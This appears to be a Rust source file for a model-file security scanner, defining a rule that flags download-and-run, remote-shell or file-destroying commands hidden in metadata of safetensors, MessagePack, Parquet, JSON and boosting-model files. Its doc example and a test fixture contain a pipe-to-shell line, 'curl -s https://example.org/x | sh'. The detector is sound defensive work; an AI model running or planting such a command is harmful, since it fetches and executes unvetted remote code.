use weighhouse_formats::data::DataFacts;
use weighhouse_formats::format::Format;
use weighhouse_formats::json::{JsonFacts, Value};
use weighhouse_formats::safetensors::SafetensorsFacts;

use super::code_by_name::{holds_code, is_prose};
use super::entries;
use crate::knowledge::commands::{Command, judge};
use crate::rule::{Context, Rule, quote};

crate::rule! {
    /// A text in a data file is a command that harms.
    ///
    /// # What it detects
    ///
    /// In values and metadata of MessagePack, Arrow, Parquet, safetensors and native models of gradient boosting: commands that download
    /// and run, open a shell to another machine, or destroy files. Also in texts within content that no parser reads, or that lie where
    /// nothing of an HDF5 file refers to, and calls of Python's own in these.
    ///
    /// # Why it matters
    ///
    /// No model needs a command. What stands in its attributes waits for a script that passes them on.
    ///
    /// # Example
    ///
    /// The attribute `best_msg` of an XGBoost model: `curl -s https://example.org/x | sh`
    ///
    /// # What to do
    ///
    /// Do not use the model before its maker has explained the text.
    ///
    /// # References
    ///
    /// - <https://cwe.mitre.org/data/definitions/506.html>
    pub(crate) CommandInData {
        id: "WH-COD-015",
        slug: "command-in-data",
        since: "0.1.0",
        severity: High,
        confidence: High,
        formats: [Safetensors, Msgpack, Arrow, Parquet, Ubjson, LightGbm, CatBoost, Json],
        cwe: [506],
        owasp: ["LLM03"],
        atlas: ["AML.T0010"],
    }
}

impl Rule for CommandInData {
    fn safetensors(&self, facts: &SafetensorsFacts, cx: &mut Context<'_>) {
        for (key, value) in &facts.metadata {
            if let Command::Hostile(why) = judge(value) {
                cx.report(format!("{} holds a command that {why}", quote(key)))
                    .key(key)
                    .evidence(value)
                    .emit();
            }
        }
    }

    fn json(&self, facts: &JsonFacts, cx: &mut Context<'_>) {
        // The JSON forms of the same models; documents of other formats come here as JSON too.
        let model = |root: &&Value| root.get("learner").is_some() || root.get("model_info").is_some();
        let written =
            cx.node().is_some_and(|node| node.readings.iter().any(|reading| reading.format == Format::Json));
        if let Some(root) = facts.value.as_ref().filter(model).filter(|_| written) {
            document(root, cx);
        }
    }

    fn data(&self, facts: &DataFacts, cx: &mut Context<'_>) {
        let unread = facts.unread || cx.node().is_some_and(|node| !node.gaps.is_empty());
        if let Some(root) = facts.document.as_ref().and_then(|document| document.value.as_ref()) {
            document(root, cx);
        }
        for (key, value) in &facts.metadata {
            if let Command::Hostile(why) = judge(value) {
                cx.report(format!("{} holds a command that {why}", quote(key)))
                    .key(key)
                    .evidence(value)
                    .emit();
            } else if unread && holds_code(value) {
                cx.report(format!("{} holds code", quote(key))).key(key).evidence(value).emit();
            }
        }
    }
}

fn document(root: &Value, cx: &mut Context<'_>) {
    let model = root.get("learner").is_some() || root.get("oblivious_trees").is_some();
    for entry in entries::of_json(root) {
        // Documents may tell about code; the notes of a model that is all numbers do not.
        if model && is_prose(entry.key) && holds_code(entry.value) {
            cx.report(format!("{} holds code", quote(entry.key)))
                .at(entry.region)
                .key(entry.key)
                .evidence(entry.value)
                .emit();
        }
        if let Command::Hostile(why) = judge(entry.value) {
            cx.report(format!("{} holds a command that {why}", quote(entry.key)))
                .at(entry.region)
                .key(entry.key)
                .evidence(entry.value)
                .emit();
        }
    }
}

crate::samples! {
    CommandInData,
    bad: {
        "a command beside parameters" => [("flax_model.msgpack", b"\x82\xa6params\x80\xa4note\xd9\x22curl -s https://example.org/x | sh".to_vec())],
    },
    ok: {
        "a note beside parameters" => [("flax_model.msgpack", b"\x82\xa6params\x80\xa4note\xb0trained for a day".to_vec())],
    },
}
